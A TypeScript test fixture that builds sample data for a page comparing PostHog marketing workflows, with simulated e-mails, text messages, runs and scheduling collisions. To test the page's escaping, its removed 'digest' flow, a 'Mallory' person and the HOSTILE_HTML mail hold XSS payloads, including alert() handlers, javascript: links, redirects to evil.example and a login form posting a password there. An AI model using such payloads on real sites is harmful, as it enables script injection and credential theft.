// A page's data as a stack of four flows gives it: one is added, one changed, one removed, and one stays, with a schedule and drift. Every kind of message is in it,
// gaps, dead links, collisions, and texts that somebody hostile has written. The page's tests draw it, and `write-sample-page.ts` writes it to a file.
import type {
  Delivery,
  DrawnNode,
  Drawing,
  FlowVersion,
  Mark,
  MessageContent,
  ShowData,
  ShownFlow,
  ShownRun,
  ShownStep,
  Side,
} from "../../show/data";
import { PER_WEEK } from "../../operate/calendar";
import { collisionsIn } from "../../operate/people/collisions";
import { NOBODY } from "../../operate/people/kept";
import { collisionWords } from "../../operate/show/collision-words";
import { layoutGraph } from "../../operate/show/graph-layout";

const START = Date.parse("2026-12-07T09:00:00Z");
const HOUR = 3_600_000;
const DAY = 24 * HOUR;
const isoAt = (ms: number): string => new Date(START + ms).toISOString();
const HOST = "https://eu.posthog.com";

/** A mail as marketing tools write them: tables, inline styles, a hidden first text, and a dark mode. */
const mail = (preheader: string, heading: string, body: string, footer: string): string => `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width">
<meta name="color-scheme" content="light dark">
<style>
body { margin: 0; background: #f2f4f7; font-family: Helvetica, Arial, sans-serif; }
.card { background: #ffffff; border-radius: 8px; }
h1 { font-size: 24px; line-height: 32px; color: #101828; margin: 0 0 16px; }
p { font-size: 16px; line-height: 24px; color: #344054; margin: 0 0 16px; }
.button { display: inline-block; padding: 12px 24px; border-radius: 6px; background: #1d4aff; color: #ffffff; font-weight: bold; text-decoration: none; }
.small { font-size: 12px; line-height: 18px; color: #667085; }
@media (prefers-color-scheme: dark) {
  body { background: #101828; }
  .card { background: #1d2939; }
  h1 { color: #f9fafb; }
  p { color: #d0d5dd; }
  .small { color: #98a2b3; }
}
@media (max-width: 480px) { .card { border-radius: 0; } }
</style>
</head>
<body>
<div style="display:none;max-height:0;overflow:hidden">${preheader}</div>
<table role="presentation" width="100%" cellpadding="0" cellspacing="0">
<tr><td align="center" style="padding:24px 0">
<table role="presentation" class="card" width="600" cellpadding="0" cellspacing="0" style="max-width:600px;width:100%">
<tr><td style="padding:32px">
<img src="https://cdn.acme.example/logo.png" width="120" height="32" alt="Acme">
<h1>${heading}</h1>
${body}
<p class="small">${footer}</p>
</td></tr>
</table>
</td></tr>
</table>
</body>
</html>`;

const unsubscribe = (to: string): string =>
  `Acme GmbH, Berlin · <a href="https://unsubscribe.invalid/?to=${encodeURIComponent(to)}">Unsubscribe</a>`;

const step = (
  id: string,
  title: string,
  kind: string,
  more: Partial<Omit<ShownStep, "id" | "title" | "kind">> = {},
): ShownStep => ({
  id,
  title,
  kind,
  sends: false,
  location: { file: "flows/onboarding.ts", line: 10 + id.length, column: 5 },
  // What a change adds is not in PostHog yet.
  ...(more.mark === "added"
    ? {}
    : { url: `${HOST}/project/2/workflows/0198f1c2-0000-7000-8000-000000000001/workflow?node=${id}` }),
  ...more,
});

const SHAPES: Readonly<Record<string, DrawnNode["shape"]>> = {
  trigger: "stadium",
  exit: "stadium",
  wait: "hexagon",
  branch: "rhombus",
  webhook: "subroutine",
};
/** An edge of a drawing. */
type Line = readonly [from: string, to: string, branch?: number, label?: string, mark?: Mark];

const drawing = (steps: readonly ShownStep[], lines: readonly Line[]): Drawing =>
  layoutGraph({
    nodes: steps.map(({ id, title, kind, does, mark }) => ({
      id,
      title,
      ...(does === undefined ? {} : { below: kind === "trigger" ? does : `${kind}: ${does}` }),
      shape: SHAPES[kind] ?? "rectangle",
      ...(mark ? { mark } : {}),
    })),
    edges: lines.map(([from, to, branch, label, mark]) => ({
      from,
      to,
      id: branch === undefined ? `${from}.next` : `${from}.branches[${branch}]`,
      ...(label === undefined ? {} : { label }),
      ...(mark ? { mark } : {}),
    })),
  });

const version = (steps: ShownStep[], lines: Line[], more: Partial<FlowVersion> = {}): FlowVersion => ({
  status: "active",
  trigger: 'on "user signed up"',
  schedules: [],
  steps,
  drawing: drawing(steps, lines),
  findings: [],
  ...more,
});

const WELCOME_SUBJECT = 'Welcome, [first_name or "there"]!';

function welcome(): ShownFlow {
  const [trigger, exit] = [
    step("trigger_node", "Signed up", "trigger", { does: 'on "user signed up"' }),
    step("exit_node", "Exit", "exit"),
  ];
  const before = [
    trigger,
    step("welcome", "Welcome", "e-mail", { does: "“Welcome to Acme!”", sends: true, mark: "changed" }),
    step("let_them_try", "Let them try", "wait", { does: "3 days", mark: "changed" }),
    step("checklist", "Checklist", "e-mail", { does: "“Three things to try”", sends: true, mark: "removed" }),
    exit,
  ];
  const after = [
    trigger,
    step("welcome", "Welcome", "e-mail", { does: `“${WELCOME_SUBJECT}”`, sends: true, mark: "changed" }),
    step("let_them_try", "Let them try", "wait", { does: "2 days", mark: "changed" }),
    step("plan", "Which plan?", "branch", { does: "the person's plan is “free”", mark: "added" }),
    step("tips", "Tips for free users", "e-mail", { does: "“Get more out of Acme”", sends: true, mark: "added" }),
    step("call", "Offer a call", "text message", {
      does: "“Hi [first_name], shall we call?”",
      sends: true,
      mark: "added",
    }),
    exit,
  ];
  return {
    name: "welcome",
    title: "Welcome series",
    fate: "changed",
    before: version(
      before,
      [
        ["trigger_node", "welcome"],
        ["welcome", "let_them_try"],
        ["let_them_try", "checklist", undefined, undefined, "removed"],
        ["checklist", "exit_node", undefined, undefined, "removed"],
      ],
      { description: "The first week of a new user.", exit: "when they convert", goal: 'on "project created"' },
    ),
    after: version(
      after,
      [
        ["trigger_node", "welcome"],
        ["welcome", "let_them_try"],
        ["let_them_try", "plan", undefined, undefined, "added"],
        ["plan", "tips", 0, "plan is free", "added"],
        ["plan", "call", undefined, "otherwise", "added"],
        ["tips", "exit_node", undefined, undefined, "added"],
        ["call", "exit_node", undefined, undefined, "added"],
      ],
      {
        description: "The first week of a new user.",
        exit: "when they convert",
        goal: 'on "project created"',
        findings: [
          {
            rule: "email-no-unsubscribe",
            severity: "warning",
            path: "actions.tips.config.inputs.email.value.html",
            what: "The e-mail has no link to unsubscribe",
            why: "Marketing e-mail needs one, and mailboxes count against senders who have none.",
            fix: 'Add <a href="{{ unsubscribe_url }}">Unsubscribe</a>, or say that it is transactional.',
            step: "tips",
            location: { file: "flows/onboarding.ts", line: 42, column: 7 },
          },
        ],
      },
    ),
    changes: [
      '“Welcome”, subject: “Welcome to Acme!” → “Welcome, [first_name or "there"]!”',
      "“Welcome”, preview text: “Good to have you.” → “Three things to try first.”",
      "“Welcome”, HTML: 3 new lines and 3 lines less",
      "“Let them try”, wait: 3 days → 2 days",
      "Removed: “Checklist” (e-mail “Three things to try”)",
      "Added: “Which plan?”, “Tips for free users” and “Offer a call”",
      "People in “Checklist” leave the flow: their step was removed, and none of their later steps is left.",
    ],
    url: `${HOST}/project/2/workflows/0198f1c2-0000-7000-8000-000000000001/workflow`,
    location: { file: "flows/onboarding.ts", line: 8, column: 24 },
    drift: [],
  };
}

function trialEnding(): ShownFlow {
  const steps = [
    step("trigger_node", "Trial ends soon", "trigger", { does: 'on "trial ending"', mark: "added" }),
    step("reminder", "Reminder", "e-mail", { does: "“Your trial ends on [trial_end]”", sends: true, mark: "added" }),
    step("nudge", "Nudge", "push notification", { does: "“Two days left”", sends: true, mark: "added" }),
    step("exit_node", "Exit", "exit", { mark: "added" }),
  ];
  return {
    name: "trial_ending",
    title: "Trial ending",
    fate: "added",
    after: version(
      steps,
      [
        ["trigger_node", "reminder", undefined, undefined, "added"],
        ["reminder", "nudge", undefined, undefined, "added"],
        ["nudge", "exit_node", undefined, undefined, "added"],
      ],
      {
        status: "draft",
        trigger: 'on "trial ending"',
      },
    ),
    changes: ["A new flow, as a draft: it sends nothing until somebody activates it."],
    location: { file: "flows/trial.ts", line: 5, column: 20 },
  };
}

/** Its title, its name and its mail are an attack. */
function oldDigest(): ShownFlow {
  const steps = [
    step("trigger_node", 'Left"><img src=x onerror=alert(1)>', "trigger", { does: "for everyone", mark: "removed" }),
    step("digest", "<script>alert('digest')</script>", "e-mail", {
      does: "“</script><b>Digest</b> ${x} \u202Etfel”",
      sends: true,
      mark: "removed",
    }),
    step("exit_node", "Exit", "exit", { mark: "removed" }),
  ];
  return {
    name: 'old-digest"/../#<svg onload=alert(2)>',
    title: `Old & “digest” <img src=x onerror=alert(3)> ${"AVeryLongWordWithoutAnyPlaceToBreakIt".repeat(4)}`,
    fate: "removed",
    before: version(
      steps,
      [
        ["trigger_node", "digest", undefined, undefined, "removed"],
        ["digest", "exit_node", undefined, undefined, "removed"],
      ],
      { description: "<!-- --><style>*{display:none}</style>", trigger: "for everyone", audience: "everyone" },
    ),
    changes: [
      "Will be removed from the program and archived in PostHog (currently active).",
      "Everyone in the flow leaves it.",
    ],
    url: "javascript:alert(4)",
    drift: [],
  };
}

function weeklyReport(): ShownFlow {
  const steps = [
    step("trigger_node", "Every Monday", "trigger", { does: "on schedule, without a person" }),
    step("report", "Report to Slack", "Slack message", {
      does: "“:bar_chart: [count] sign-ups last week”",
      sends: true,
    }),
    step("sync", "Sync to CRM", "webhook", { does: "https://crm.example/api/v2/sync", sends: false }),
    step("exit_node", "Exit", "exit"),
  ];
  return {
    name: "weekly_report",
    title: "Weekly report",
    fate: "same",
    before: weekly(steps),
    after: weekly(steps),
    changes: [],
    url: `${HOST}/project/2/workflows/0198f1c2-0000-7000-8000-000000000004/workflow`,
    location: { file: "flows/report.ts", line: 3, column: 1 },
    drift: [
      "“Report to Slack”: text: “[count] sign-ups” → “:bar_chart: [count] sign-ups last week”, by grace@acme.example on 5 December 2026",
    ],
    isEdited: true,
  };
}

const weekly = (steps: ShownStep[]): FlowVersion =>
  version(
    steps,
    [
      ["trigger_node", "report"],
      ["report", "sync"],
      ["sync", "exit_node"],
    ],
    {
      trigger: "on schedule, without a person",
      schedules: [
        {
          name: "mondays",
          words: "every week on Monday at 09:00 (Europe/Berlin), from 2026-01-05",
          next: [0, 7, 14, 21, 28].map((day) => isoAt(day * DAY + 7 * DAY - HOUR)),
          timezone: "Europe/Berlin",
          isPaused: false,
        },
        {
          name: "first_of_month",
          words: "every month on the 1st at 08:00 (UTC), from 2026-02-01",
          next: [],
          timezone: "UTC",
          isPaused: true,
        },
      ],
    },
  );

/** What is sent, and the runs that send it, so that indexes fit. */
class Sent {
  readonly contents: MessageContent[] = [];
  readonly deliveries: Delivery[] = [];
  readonly runs: ShownRun[] = [];

  run(
    side: Side,
    person: number,
    flow: string,
    { startedBy, at = 0, end = "reached the exit" }: { startedBy: string; at?: number; end?: string },
  ): number {
    return this.runs.push({ side, person, flow, startedBy, started: isoAt(at), lines: [], end }) - 1;
  }

  line(run: number, at: number, [id, title, words]: readonly [string, string, string]): this {
    this.runs[run]!.lines.push({ at: isoAt(at), day: Math.floor(at / DAY), step: id, title, words, deliveries: [] });
    return this;
  }

  message(
    run: number,
    at: number,
    [id, title]: readonly [string, string],
    { content, to, ...more }: { content: MessageContent; to: string } & Pick<Partial<Delivery>, "maybe" | "mark">,
  ): number {
    const { side, person, flow, lines } = this.runs[run]!;
    const known = this.contents.findIndex((each) => JSON.stringify(each) === JSON.stringify(content));
    const index = known >= 0 ? known : this.contents.push(content) - 1;
    const day = Math.floor(at / DAY);
    const delivery: Delivery = {
      side,
      person,
      flow,
      step: id,
      title,
      content: index,
      run,
      to,
      at: isoAt(at),
      day,
      ...more,
    };
    const number = this.deliveries.push(delivery) - 1;
    lines.push({ at: isoAt(at), day, step: id, title, words: `sent to ${to}`, deliveries: [number] });
    return number;
  }
}

const FROM = { from: "Acme <hello@acme.example>", category: { type: "marketing" } } as const;

const welcomeMail = (side: Side, name: string, to: string): MessageContent =>
  withPlaces({
    channel: "email",
    ...FROM,
    replyTo: "support@acme.example",
    subject: side === "before" ? "Welcome to Acme!" : `Welcome, ${name === "" ? "there" : name}!`,
    preheader: side === "before" ? "Good to have you." : "Three things to try first.",
    html: mail(
      side === "before" ? "Good to have you." : "Three things to try first.",
      side === "before" ? "Welcome to Acme" : `Welcome, ${name === "" ? "there" : name}`,
      `<p>${side === "before" ? "Thank you for signing up." : "Thank you for signing up. Here are three things that people try first:"}</p>
<ul><li>Create a project</li><li>Invite your team</li><li>Connect your data</li></ul>
<p><a class="button" href="https://app.acme.example/start">Create a project</a></p>`,
      unsubscribe(to),
    ),
    text: `Welcome, ${name === "" ? "there" : name}!\n\nThank you for signing up.\n\nCreate a project: https://app.acme.example/start`,
    hasUnsubscribe: true,
    unsubscribeMissingIn: "text",
    links: [
      { url: "https://app.acme.example/start", text: "Create a project" },
      { url: `https://unsubscribe.invalid/?to=${encodeURIComponent(to)}`, text: "Unsubscribe" },
    ],
    gaps:
      side === "after" && name === ""
        ? ["subject", "html", "text"].map((where) => ({ where, expression: "first_name", shows: "there" }))
        : [],
  });

/** With the index of each gap's default, as a simulation has it. */
function withPlaces(content: MessageContent): MessageContent {
  const { subject, html, text } = content;
  const parts: Record<string, string | undefined> = { subject, html, text };
  return {
    ...content,
    gaps: content.gaps.map((gap) => ({ ...gap, at: [parts[gap.where]!.indexOf(`, ${gap.shows}`) + 2] })),
  };
}

const checklistMail = (to: string): MessageContent => ({
  channel: "email",
  ...FROM,
  subject: "Three things to try",
  html: mail("", "Three things to try", "<p>Projects, teams, data.</p>", unsubscribe(to)),
  hasUnsubscribe: true,
  links: [{ url: `https://unsubscribe.invalid/?to=${encodeURIComponent(to)}`, text: "Unsubscribe" }],
  gaps: [],
});

const tipsMail = (company: string): MessageContent => ({
  channel: "email",
  ...FROM,
  subject: "Get more out of Acme",
  preheader: "Dashboards, alerts and more.",
  html: mail(
    "Dashboards, alerts and more.",
    "Get more out of Acme",
    `<p>Teams like ${company} use dashboards. <a href="https://docs.acme.example/dashboards">Read how</a>, or <a href="#">see prices</a>.</p>
<p><a class="button" href="http://example.com/TODO">Upgrade</a></p>`,
    "Acme GmbH, Berlin",
  ),
  hasUnsubscribe: false,
  links: [
    { url: "https://docs.acme.example/dashboards", text: "Read how" },
    { url: "#", text: "see prices", dead: "`#` is a placeholder" },
    { url: "http://example.com/TODO", text: "Upgrade", dead: "it is a placeholder" },
  ],
  gaps: company === "" ? [{ where: "html", expression: "company", shows: "" }] : [],
});

const reminderMail = (date: string): MessageContent => ({
  channel: "email",
  from: "Acme Billing <billing@acme.example>",
  cc: "sales@acme.example",
  bcc: "archive@acme.example",
  category: { type: "transactional", id: "0198f1c2-0000-7000-8000-0000000000c1" },
  subject: `Your trial ends on ${date}`,
  html: mail(
    "",
    "Your trial ends soon",
    `<p>It ends on ${date}.</p><p><a class="button" href="">Choose a plan</a></p>`,
    "Acme GmbH",
  ),
  text: `Your trial ends on ${date}.`,
  hasUnsubscribe: false,
  links: [{ url: "", text: "Choose a plan", dead: "it is empty" }],
  gaps: date === "" ? ["subject", "html", "text"].map((where) => ({ where, expression: "trial_end", shows: "" })) : [],
});

const HOSTILE_HTML = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<style>@import url(https://evil.example/b.css); * { position: fixed !important; inset: 0; background: url(https://evil.example/c.png) }</style><base href="https://evil.example/"></head>
<body onload="parent.document.body.innerHTML='owned'"><script>top.location='https://evil.example/'</script>
<form action="https://evil.example/"><input name="password"><button>Log in</button></form><iframe src="https://evil.example/"></iframe>
<svg onload="alert(5)"></svg><a href="javascript:alert(6)">Click</a><img src="https://evil.example/pixel.gif"><img src=x onerror="alert(7)">
<p>Digest</p></body></html>`;

/** A page with everything in it. */
export function sampleShowData(): ShowData {
  const sent = new Sent();
  const people: ShowData["people"] = [
    {
      name: "ada on the free plan",
      origin: "kept",
      properties: [
        { name: "email", value: "ada@example.com" },
        { name: "first_name", value: "Ada" },
        { name: "plan", value: "free" },
      ],
    },
    {
      name: "grace on the pro plan",
      origin: "kept",
      properties: [
        { name: "email", value: "grace@example.com" },
        { name: "plan", value: "pro" },
        { name: "company", value: "Hopper & Sons" },
      ],
    },
    { name: "plan is “team”", origin: "made", properties: [{ name: "plan", value: "team" }] },
    {
      name: "<b>Mallory</b> & “Co” {{ 7 | times: 7 }}",
      origin: "kept",
      properties: [
        { name: "email", value: '"><script>alert(8)</script>@example.com' },
        { name: "first_name", value: "</textarea><img src=x onerror=alert(9)>" },
        { name: "bio", value: "x".repeat(2_000) },
      ],
    },
    { name: NOBODY, origin: "nobody", properties: [] },
  ];
  const names = ["Ada", "", undefined, "</textarea><img src=x onerror=alert(9)>"];
  const mails = ["ada@example.com", "grace@example.com", undefined, '"><script>alert(8)</script>@example.com'];
  const escaped = (text: string): string => text.replace(/[<>&"]/g, (each) => `&#${each.charCodeAt(0)};`);

  for (const side of ["before", "after"] as const)
    for (const person of [0, 1, 2, 3]) {
      const isNew = side === "after";
      const to = mails[person];
      const run = sent.run(side, person, "welcome", { startedBy: 'event "user signed up"' });
      const wait = isNew ? 2 : 3;
      if (to === undefined)
        sent.line(run, 0, ["welcome", "Welcome", "failed: the e-mail has no recipient; the run goes on"]);
      else
        sent.message(run, 0, ["welcome", "Welcome"], {
          content: welcomeMail(side, escaped(names[person] ?? ""), to),
          to,
          mark: "changed",
        });
      sent.line(run, 0, [
        "let_them_try",
        "Let them try",
        `waits ${wait} days, until ${isoAt(wait * DAY).slice(0, 10)}`,
      ]);
      if (!isNew) {
        if (to !== undefined)
          sent.message(run, 3 * DAY, ["checklist", "Checklist"], { content: checklistMail(to), to, mark: "removed" });
      } else if (person === 0) {
        sent.line(run, 2 * DAY, ["plan", "Which plan?", "matches “plan is free”"]);
        sent.message(run, 2 * DAY, ["tips", "Tips for free users"], { content: tipsMail(""), to: to!, mark: "added" });
      } else {
        sent.line(run, 2 * DAY, ["plan", "Which plan?", "no condition matches"]);
        sent.message(run, 2 * DAY, ["call", "Offer a call"], {
          content: {
            channel: "sms",
            from: "+4930123456",
            text: `Hi ${names[person] ?? ""}, shall we call? Book a time: https://cal.acme.example/grace`,
            category: { type: "marketing" },
            links: [{ url: "https://cal.acme.example/grace", text: "https://cal.acme.example/grace" }],
            gaps: names[person] ? [] : [{ where: "text", expression: "first_name", shows: "" }],
          },
          to: `+49 170 000000${person}`,
          mark: "added",
        });
      }
    }

  for (const person of [0, 1]) {
    const to = mails[person]!;
    const run = sent.run("after", person, "trial_ending", {
      startedBy: 'event "trial ending"',
      at: 2 * DAY + HOUR / 2,
    });
    const maybe = "the flow is a draft: it sends nothing until somebody activates it";
    sent.message(run, 2 * DAY + HOUR / 2, ["reminder", "Reminder"], {
      content: reminderMail(person === 0 ? "" : "21 December"),
      to,
      maybe,
      mark: "added",
    });
    sent.message(run, 2 * DAY + HOUR / 2, ["nudge", "Nudge"], {
      content: {
        channel: "push",
        subject: "Two days left",
        text: "Your trial ends soon. Tap to choose a plan.",
        category: { type: "transactional" },
        links: [],
        gaps: [],
      },
      to: person === 0 ? "ada" : "grace",
      maybe,
      mark: "added",
    });
  }

  for (const person of [0, 3]) {
    const run = sent.run("before", person, 'old-digest"/../#<svg onload=alert(2)>', {
      startedBy: "the audience",
      at: 5 * DAY,
    });
    sent.message(run, 5 * DAY, ["digest", "<script>alert('digest')</script>"], {
      content: {
        channel: "email",
        from: "<img src=x onerror=alert(10)> <evil@example.com>",
        subject: "</title><script>alert(11)</script> \u202Etsegid",
        html: HOSTILE_HTML,
        text: "Digest <script>alert(12)</script>",
        category: { type: "marketing" },
        hasUnsubscribe: false,
        links: [{ url: "javascript:alert(6)", text: "Click", dead: "mailboxes do not open scripts" }],
        gaps: [{ where: "html", expression: "<img src=x onerror=alert(13)>", shows: "" }],
      },
      to: mails[person]!,
      mark: "removed",
    });
  }

  for (const side of ["before", "after"] as const)
    for (const week of [0, 1, 2]) {
      const at = week * 7 * DAY + 7 * DAY - HOUR;
      const run = sent.run(side, 4, "weekly_report", { startedBy: "schedule", at });
      sent.message(run, at, ["report", "Report to Slack"], {
        content: {
          channel: "slack",
          from: "Acme Bot",
          text: ":bar_chart: *12* sign-ups last week\n<https://eu.posthog.com/insights/abc|See the insight>",
          links: [{ url: "https://eu.posthog.com/insights/abc", text: "See the insight" }],
          gaps: [],
        },
        to: "#growth",
      });
      sent.message(run, at, ["sync", "Sync to CRM"], {
        content: {
          channel: "request",
          request: "POST https://crm.example/api/v2/sync",
          text: '{\n  "week": "2026-W50",\n  "token": "[secret]"\n}',
          links: [],
          gaps: [],
        },
        to: "crm.example",
      });
    }

  const flows = [trialEnding(), welcome(), oldDigest(), weeklyReport()];
  return {
    title: "acme/prod",
    madeAt: isoAt(0),
    version: "1.0.0",
    target: { host: HOST, projectId: "2" },
    change: { before: "main", after: "your program" },
    hasDrift: true,
    scheduleDays: 27,
    flows,
    people,
    contents: sent.contents,
    deliveries: sent.deliveries,
    runs: sent.runs,
    collisions: collisionsOf(sent, flows, people),
    notes: [
      "Sending limits may delay e-mails; they are not simulated.",
      "“Welcome series”: whether ada@example.com can be reached is not known.",
    ],
  };
}

const KINDS = {
  email: "e-mail",
  sms: "text message",
  push: "push notification",
  slack: "Slack message",
  request: "request",
} as const;

/** As a calendar finds them. */
function collisionsOf(
  { deliveries, contents }: Sent,
  flows: readonly ShownFlow[],
  people: ShowData["people"],
): ShowData["collisions"] {
  const flowOf = ({ flow }: Delivery): ShownFlow => flows.find(({ name }) => name === flow)!;
  return (["before", "after"] as const).flatMap((side) =>
    people.flatMap(({ name, origin }, person) => {
      const indexes = deliveries
        .flatMap((each, i) => (each.side === side && each.person === person ? [i] : []))
        .sort((a, b) => Date.parse(deliveries[a]!.at) - Date.parse(deliveries[b]!.at));
      const found = collisionsIn(
        indexes.map((i) => ({
          kind: KINDS[contents[deliveries[i]!.content]!.channel],
          sinceDayZero: Date.parse(deliveries[i]!.at) - START,
          isAssumed: false,
          flow: { key: deliveries[i]!.flow },
        })),
        PER_WEEK,
      );
      return (origin === "nobody" ? [] : found).map(({ kind, most, deliveries: places }) => {
        const colliding = places.map((place) => indexes[place]!);
        const messages = colliding.map((i) => {
          const { title, at, maybe } = deliveries[i]!;
          const flow = flowOf(deliveries[i]!);
          return { title, at, flow: flow.title, isOff: flow[side]?.status === "draft", isMaybe: maybe !== undefined };
        });
        return {
          side,
          person,
          kind: kind === "close" ? ("within-an-hour" as const) : ("too-many-in-a-week" as const),
          deliveries: colliding,
          words: collisionWords({ kind, most }, { person: name, perWeek: PER_WEEK, messages }),
        };
      });
    }),
  );
}
